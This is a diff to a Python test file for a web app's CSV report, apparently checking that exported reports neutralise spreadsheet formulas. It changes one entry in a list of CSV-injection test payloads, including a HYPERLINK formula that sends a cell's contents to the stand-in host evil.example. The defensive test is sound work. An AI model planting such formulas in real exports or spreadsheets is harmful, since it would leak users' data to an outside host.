@@ -159,7 +159,7 @@ def test_an_editor_sees_what_to_write_next(app, client, auth):
     assert as_json["week"] == "2020-W01" and as_json["top"] == []
 
 
-FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "@SUM(1+1)", "+1+cmd", "-2+3"]  # the search trims tabs
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "@XYZZY(1+1)", "+1+cmd", "-2+3"]  # the search trims tabs
 
 
 def test_the_csv_report_never_hands_a_spreadsheet_a_formula(app, client, auth):
